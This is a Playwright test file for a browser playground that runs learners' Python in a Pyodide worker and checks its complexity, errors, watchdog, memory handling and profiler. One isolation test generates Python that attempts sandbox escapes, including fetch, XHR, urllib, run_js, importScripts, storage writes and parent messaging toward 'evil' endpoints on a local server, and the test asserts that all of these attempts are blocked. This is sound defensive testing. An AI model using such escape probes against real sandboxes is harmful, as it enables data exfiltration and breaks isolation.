// Python in the playground, end to end on the production build: one page (one sandbox, one worker, one
// Pyodide load) shared by serial tests, since loading Python takes seconds. Verdicts for time and memory,
// errors at the learner's lines, a runaway stopped without losing the interpreter, memory running out,
// isolation, and the profiler. Links with #lang=python restore Python and never run by themselves.
import AxeBuilder from '@axe-core/playwright';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { openWithCode, runButton, runToEnd, runnerStats, setCode, trackErrors } from './fixtures/runner-page';

const LINEAR = `def make_input(n):
    return [(i * 31) % 1000 for i in range(n)]

def solve(values):
    total = 0
    for v in values:
        total += v * 2
    return total
`;

// Doubling sizes: enough of them finish before the budget stops the series, even on a busy machine.
const QUADRATIC = `SIZES = [50, 100, 200, 400, 800, 1600, 3200, 6400, 12800, 25600]

def make_input(n):
    return [i * 2 + 1 for i in range(n)]

def solve(values):
    kept = []
    for x in values:
        if x not in kept:
            kept.append(x)
    return len(kept)
`;

const MEMORY_LIST = `def make_input(n):
    return n

def solve(n):
    squares = [i * i for i in range(n)]
    return sum(squares)
`;
const MEMORY_GENERATOR = MEMORY_LIST.replace('[i * i for i in range(n)]', '(i * i for i in range(n))');

const SYNTAX = `def make_input(n):
    return n

def solve(x)
    return x
`;

const TRACEBACK = `def make_input(n):
    return list(range(n))

def pick(xs):
    return xs[len(xs)]

def solve(xs):
    return pick(xs)
`;

const ENDLESS = `def make_input(n):
    return n

def solve(n):
    while True:
        n += 1
`;

const HUGE = `def make_input(n):
    return n

def solve(n):
    return [0] * 10**9
`;

// The hot line (7: \`in\` on a list inside the loop) among decoys that look busy but are cheap.
const PROFILED = `def make_input(n):
    return {"ids": [(i * 7919) % (n * 2) for i in range(n)], "banned": [i for i in range(0, n, 3)]}

def solve(data):
    rows = [{"id": i, "label": "user-" + str(i)} for i in data["ids"]]
    banned = data["banned"]
    kept = [r for r in rows if r["id"] not in banned]
    text = ",".join(r["label"] for r in kept)
    return len(kept), len(text)
`;
const HOT_LINE = 7;

/** Python reaching for the network, the page and storage: every attempt is recorded, then reported. */
function reachingOut(target: string, app: string): string {
  return `import js
import pyodide.code
import pyodide.http
import urllib.request

report = []

def probe(name, fn):
    try:
        r = fn()
        report.append(name + "=" + type(r).__name__)
    except BaseException as e:
        report.append(name + "=threw " + type(e).__name__)

def sync_xhr(url):
    x = js.XMLHttpRequest.new()
    x.open("GET", url, False)
    x.send()
    return x.status

def fetch_quietly(url):
    p = js.fetch(url)
    p.catch(lambda e: None)
    return p

probe("fetch", lambda: fetch_quietly("${target}/evil-py-fetch"))
probe("fetch-app", lambda: fetch_quietly("${app}/evil-py-app"))
probe("xhr", lambda: sync_xhr("${target}/evil-py-xhr"))
probe("open_url", lambda: pyodide.http.open_url("${target}/evil-py-open-url"))
probe("urllib", lambda: urllib.request.urlopen("${target}/evil-py-urllib").read())
probe("run_js", lambda: pyodide.code.run_js("fetch('${target}/evil-py-run-js').catch(() => 0)"))
probe("importScripts", lambda: js.importScripts("${target}/evil-py-import.js"))
probe("localStorage", lambda: js.localStorage.setItem("hotpath-evil", "1"))
probe("indexedDB", lambda: js.indexedDB.open("hotpath-evil-py"))
probe("document", lambda: js.document.title)
probe("parent", lambda: js.parent.postMessage("evil", "*"))

def make_input(n):
    return n

def solve(n):
    raise RuntimeError("REPORT " + " ".join(report))
`;
}

// A listening server on 127.0.0.1: every request that reaches it is recorded.
let server: http.Server;
let target = '';
const hits: string[] = [];

let page: Page;
let errors: string[] = [];

test.describe.configure({ mode: 'serial' });
test.setTimeout(120_000);

test.beforeAll(async ({ browser }) => {
  server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
    res.end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  target = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // AxeBuilder needs a page from a context made here.
  page = await (await browser.newContext()).newPage();
  errors = trackErrors(page);
});

test.afterAll(async () => {
  await page.context().close();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Replaces the code (still Python: the page was opened with #lang=python) and runs it. */
async function run(code: string, timeout = 90_000): Promise<string> {
  await setCode(page, code);
  return runToEnd(page, timeout);
}

/**
 * Replaces the code and clicks Run in the same task, before React has re-rendered with the new code (what
 * a bench, a test or a quick Ctrl+Enter after an edit can do): the run must still be of the new code.
 */
async function runAtOnce(code: string, timeout = 90_000): Promise<string> {
  const status = page.getByTestId('run-status');
  const before = Number(await status.getAttribute('data-run'));
  await page.evaluate((c) => {
    window.__hotpathEditor!.setValue(c);
    [...document.querySelectorAll('button')].find((b) => b.textContent?.trim() === 'Run')!.click();
  }, code);
  await expect(status).toHaveAttribute('data-run', String(before + 1));
  await expect(status).toHaveAttribute('data-phase', /^(done|stopped|error)$/, { timeout });
  return (await status.getAttribute('data-phase')) ?? '';
}

const markers = () => page.evaluate(() => window.__hotpathEditor?.markers() ?? []);

test('a #lang=python link restores Python, highlighted, and nothing runs or loads until Run', async () => {
  const pyodideRequests: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('/pyodide/')) pyodideRequests.push(r.url());
  });
  await openWithCode(page, LINEAR, 'python');
  await expect(page.getByTestId('language')).toHaveValue('python');
  expect(await page.evaluate(() => window.__hotpathEditor?.getValue())).toBe(LINEAR);
  // Monaco highlights Python: the keyword `def` is tokenized apart from the name after it.
  await expect(page.locator('[data-editor-ready="true"]')).toBeVisible({ timeout: 30_000 });
  const def = page.locator('.monaco-editor .view-line span', { hasText: /^def$/ }).first();
  const name = page.locator('.monaco-editor .view-line span', { hasText: /^\s?make_input$/ }).first();
  await expect(def).toBeVisible();
  expect(await def.getAttribute('class')).not.toBe(await name.getAttribute('class'));
  await page.waitForTimeout(1000);
  await expect(page.getByTestId('run-status')).toHaveAttribute('data-phase', 'idle');
  await expect(page.getByTestId('verdict')).toHaveCount(0);
  expect(pyodideRequests).toEqual([]);
  expect((await runnerStats(page)).pythonLoads).toBe(0);
});

test('Python loads behind a progress bar; Cancel during the load ends the run, not the load', async () => {
  const status = page.getByTestId('run-status');
  const before = await runnerStats(page);
  await runButton(page).click();
  const bar = page.getByRole('progressbar', { name: 'Loading Python' });
  await expect(bar).toBeVisible();
  await expect(bar).toHaveAttribute('aria-valuenow', /^\d+$/);
  await expect(status).toContainText('Loading Python');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(status).toHaveAttribute('data-phase', 'stopped');
  await expect(status).toContainText('cancelled');
  await expect(bar).toHaveCount(0);
  // The worker was not replaced: the next run finds the load under way (or done) in the same worker.
  expect((await runnerStats(page)).generation).toBe(before.generation);
});

test('O(n) Python gets O(n), with memory measured, on the one Python load', async () => {
  expect(await runToEnd(page, 90_000)).toBe('done');
  await expect(page.getByTestId('verdict')).toContainText('O(n)');
  await expect(page.getByTestId('verdict')).toContainText('%');
  await expect(page.getByTestId('results-table')).toContainText('1M');
  await expect(page.getByTestId('memory-verdict')).toContainText(/O\(1\)|O\(n\)|inconclusive/);
  await expect(page.getByTestId('memory-chart')).toBeVisible();
  await expect(page.getByTestId('memory-table')).toContainText('100');
  const stats = await runnerStats(page);
  expect(stats.generation).toBe(1);
  expect(stats.pythonLoads).toBe(1);
  console.log(`Python loaded in ${stats.lastPythonLoadMs} ms (cold, this page)`);
});

test('O(n²) Python is stopped at the budget and predicted', async () => {
  expect(await run(QUADRATIC)).toBe('done');
  await expect(page.getByTestId('verdict')).toContainText('O(n²)');
  await expect(page.getByTestId('verdict')).toContainText('(predicted)');
  await expect(page.getByTestId('run-status')).toContainText('larger sizes are predicted');
  expect((await runnerStats(page)).pythonLoads).toBe(1); // the same interpreter
});

test('a list built in memory peaks at O(n) per call, a generator at O(1)', async () => {
  expect(await run(MEMORY_LIST)).toBe('done');
  await expect(page.getByTestId('memory-verdict')).toHaveAttribute('data-memory-class', 'O(n)');
  await expect(page.getByTestId('memory-verdict')).toContainText('O(n)');
  await expect(page.getByTestId('memory-verdict')).toContainText('bytes per item');
  expect(await run(MEMORY_GENERATOR)).toBe('done');
  await expect(page.getByTestId('memory-verdict')).toHaveAttribute('data-memory-class', 'O(1)');
  await expect(page.getByTestId('memory-verdict')).toContainText('O(1)');
  // With both charts, both tables and both verdicts on screen: no accessibility violations.
  const results = await new AxeBuilder({ page }).exclude('.monaco-editor').analyze();
  expect(results.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(', ')}`)).toEqual([]);
});

test('a syntax error becomes an editor marker at its line', async () => {
  expect(await run(SYNTAX)).toBe('error');
  await expect(page.getByTestId('run-error')).toContainText('SyntaxError');
  await expect(page.getByTestId('run-error')).toContainText('line 4');
  await expect.poll(async () => (await markers()).map((m) => m.line)).toEqual([4]);
  await expect(page.locator('.monaco-editor .squiggly-error').first()).toBeAttached();
});

test("a runtime error shows Python's traceback at the learner's lines", async () => {
  expect(await run(TRACEBACK)).toBe('error');
  const error = page.getByTestId('run-error');
  await expect(error).toContainText('IndexError');
  await expect(error).toContainText('line 5');
  const stack = page.getByTestId('run-error-stack');
  await expect(stack).toBeVisible(); // a traceback is shown open
  await expect(stack).toContainText('line 8, in solve');
  await expect(stack).toContainText('line 5, in pick');
  await expect(stack).not.toContainText('_hotpath');
  await expect.poll(async () => (await markers()).map((m) => m.line)).toEqual([5]);
});

test('an endless loop is interrupted by the watchdog; the interpreter is kept and the next run works', async () => {
  const before = await runnerStats(page);
  expect(await run(ENDLESS)).toBe('stopped');
  await expect(page.getByTestId('run-status')).toContainText('no progress for');
  expect(await run(LINEAR)).toBe('done');
  const after = await runnerStats(page);
  expect(after.generation).toBe(before.generation); // no new worker:
  expect(after.pythonLoads).toBe(before.pythonLoads); // Python was not loaded again
});

test('Cancel stops a runaway Python run at once and keeps the interpreter', async () => {
  const before = await runnerStats(page);
  await setCode(page, ENDLESS);
  const status = page.getByTestId('run-status');
  const runs = Number(await status.getAttribute('data-run'));
  await runButton(page).click();
  await expect(status).toHaveAttribute('data-run', String(runs + 1));
  await expect(status).toHaveAttribute('data-phase', 'running');
  await page.waitForTimeout(300);
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(status).toHaveAttribute('data-phase', 'stopped');
  await expect(status).toContainText('cancelled');
  const t0 = Date.now();
  expect(await run(LINEAR)).toBe('done');
  console.log(`run after Cancel (interpreter kept): ${Date.now() - t0} ms`);
  const after = await runnerStats(page);
  expect(after.generation).toBe(before.generation);
  expect(after.pythonLoads).toBe(before.pythonLoads);
});

test('a huge allocation gives a clear message, and the runner works afterwards', async () => {
  const before = await runnerStats(page);
  expect(await run(HUGE)).toBe('error');
  const error = page.getByTestId('run-error');
  await expect(error).toContainText('MemoryError');
  await expect(error).toContainText('more memory than Python in the browser can have');
  await expect(error).toContainText('line 5');
  // The worker that held that memory is replaced (wasm memory never shrinks); the fresh one starts
  // loading Python at once (preload), and the next run, clicked right away with the new code, works.
  const t0 = Date.now();
  expect(await runAtOnce(LINEAR)).toBe('done');
  await expect(page.getByTestId('verdict')).toContainText('O(n)');
  expect((await runnerStats(page)).generation).toBe(before.generation + 1);
  console.log(`first run on the fresh worker (Python preloading since the respawn): ${Date.now() - t0} ms`);
});

test('Python cannot reach the network, the page or storage', async ({ baseURL }) => {
  const origin = new URL(baseURL!).origin;
  hits.length = 0;
  await page.evaluate(() => localStorage.setItem('hotpath-isolation-probe', 'untouched'));
  expect(await run(reachingOut(target, origin))).toBe('error');
  const report = (await page.getByTestId('run-error').textContent()) ?? '';
  console.log(report);
  expect(report).toContain('REPORT');
  for (const blocked of ['xhr', 'open_url', 'urllib', 'importScripts', 'indexedDB'])
    expect(report).toMatch(new RegExp(`${blocked}=threw \\w+`));
  // The worker has no page and no storage: the names do not exist there.
  for (const absent of ['localStorage', 'document', 'parent'])
    expect(report).toContain(`${absent}=threw AttributeError`);
  await page.waitForTimeout(1500); // let any asynchronous attempt land, if it could
  expect(hits).toEqual([]);
  const seen = await page.evaluate(async () => ({
    probe: localStorage.getItem('hotpath-isolation-probe'),
    evil: localStorage.getItem('hotpath-evil'),
    dbs: (await indexedDB.databases()).map((d) => d.name),
  }));
  expect(seen).toEqual({
    probe: 'untouched',
    evil: null,
    dbs: expect.not.arrayContaining(['hotpath-evil-py']),
  });
});

test('Profile in Python shows the hot line first, marked in the editor, with the prompt', async () => {
  expect(await run(PROFILED)).toBe('done');
  // At a size where the quadratic line dominates whatever the per-line instrumentation costs (the default
  // follows how far the run got, which a busy machine shortens).
  await page.getByLabel('Input size to profile at').selectOption('3000');
  await page.getByRole('button', { name: /^Profile/ }).click();
  const first = page.getByTestId('hot-spot').first();
  await expect(first).toHaveAttribute('data-line', String(HOT_LINE), { timeout: 60_000 });
  await expect(first).toContainText('not in banned');
  await expect(page.locator('.hp-heat').first()).toBeVisible();
  const prompt = page.getByTestId('profile-prompt');
  await expect(prompt).toContainText('Python');
  await expect(prompt).toContainText('r["id"] not in banned');
});

test('no console errors on the way (CSP refusals of the isolation probes aside)', async () => {
  expect(errors.filter((e) => !/Content Security Policy|Refused to|evil/i.test(e))).toEqual([]);
});

test.describe('choosing Python', () => {
  test('the Language select loads a Python example, is remembered, and Share writes #lang=python', async ({
    page: fresh,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await fresh.goto('/playground');
    await fresh.getByTestId('language').selectOption('python');
    await expect(fresh.getByTestId('share-status')).toContainText('Switched to Python');
    await expect
      .poll(() => fresh.evaluate(() => window.__hotpathEditor?.getValue() ?? ''))
      .toContain('def solve(');
    expect(await fresh.evaluate(() => localStorage.getItem('hotpath:code-lang'))).toBe('python');
    await fresh.getByRole('button', { name: 'Share' }).click();
    await expect(fresh.getByTestId('share-status')).toContainText(/copied|address bar/);
    expect(fresh.url()).toMatch(/#lang=python&code=[A-Za-z0-9+$-]+$/);
    // A fresh visit starts in the remembered language.
    await fresh.goto('about:blank');
    await fresh.goto('/playground');
    await expect(fresh.getByTestId('language')).toHaveValue('python');
    await expect(fresh.getByTestId('run-status')).toHaveAttribute('data-phase', 'idle');
  });
});
